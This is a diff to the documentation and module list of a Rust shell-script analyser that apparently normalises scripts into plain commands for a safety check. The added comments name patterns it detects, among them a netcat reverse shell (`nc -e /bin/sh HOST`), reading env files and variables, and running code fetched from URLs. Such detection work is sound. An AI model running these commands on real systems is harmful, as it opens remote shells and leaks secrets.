@@ -33,7 +33,8 @@
 //!   become `rm [-r -f] PATH`, reads become `cat PATH`, writes become a command with an empty
 //!   argv and a Write/Append redirect, `perl -n/-p` loops read (and with `-i` write) their
 //!   files. A known call with a computed argument adds a problem ("python code not statically
-//!   analysable: …").
+//!   analysable: …"). Code that opens a socket and starts a process is a reverse or bind shell
+//!   (`nc -e /bin/sh HOST`); a variable read by name in printing code is `printenv NAME`.
 //! - **`find`** is recorded as it is, then each `-exec`/`-execdir`/`-ok`/`-okdir` command with
 //!   `{}` replaced by what find reaches (wrapper `find -exec` …), and for `-delete` a synthetic
 //!   `rm -r -f TARGET` per target (wrapper `find -delete`). A target is a starting point, or,
@@ -51,6 +52,19 @@
 //!   `gdb -ex '!…'`, `mysql -e '\!…'`, `npx -c`, `at`/`batch` stdin, git `-c` keys that name
 //!   commands (`core.pager`, `core.sshCommand`, …) and `GIT_PAGER`-style variables. The tool
 //!   itself is recorded too.
+//! - **Listings through filters.** `grep`/`sed -n /re/p`/`head`/`sort`/`uniq` between a
+//!   listing and its consumer narrow the listing's patterns (`ls -a | grep env | xargs cat`
+//!   reads `.*env*`); a literal `grep` of an unknown list (`git ls-files | grep env`) stands
+//!   for the names containing the string; `realpath`/`readlink` print their operands. Such
+//!   name lists reach only filters and `xargs`/`parallel`: piped into anything else (`find … |
+//!   python3`) they are unknown input. A `for` variable bound from a glob stays a glob.
+//! - **Runners** (`runners.rs`): `tmux`/`screen` commands and keystrokes, `hyperfine`, `entr`,
+//!   `capsh`, makefiles from stdin or `--eval`, Tcl/expect `exec`/`spawn`, `emacs --eval`,
+//!   julia backticks, `jq` reading the environment; PowerShell inline code, code fetched from a
+//!   URL (`deno run https://…`, `npx github:…`) and program-starting inline code of other
+//!   languages are problems. `PAGER`/`EDITOR`/`LESSOPEN`-style variables run their value.
+//! - **Unknown archives.** Scripts run from where a pipe, a download or a `git clone` was just
+//!   unpacked are files written with unknown content.
 //! - **Unknown values** (unset variables, `$1` at top level, non-literal `$(..)`, `~user`,
 //!   arithmetic) make the word `dynamic: true` with a readable text (`${FOO}`, `$(..)`,
 //!   `$((..))`). `${X:-default}` with an unknown `X` has the default as text and is dynamic.
@@ -80,9 +94,11 @@ use std::collections::BTreeMap;
 use std::path::PathBuf;
 
 mod expand;
+mod filters;
 mod interpreters;
 mod parse;
 mod render;
+mod runners;
 mod statics;
 #[cfg(test)]
 mod tests;
@@ -90,7 +106,7 @@ mod tools;
 mod wrappers;
 
 pub use render::quote;
-pub(crate) use wrappers::git_runs_key;
+pub(crate) use wrappers::{git_runs_key, is_shell};
 
 /// Scripts longer than this are not analysed (a problem is reported instead).
 pub const MAX_INPUT_BYTES: usize = parse::MAX_INPUT;
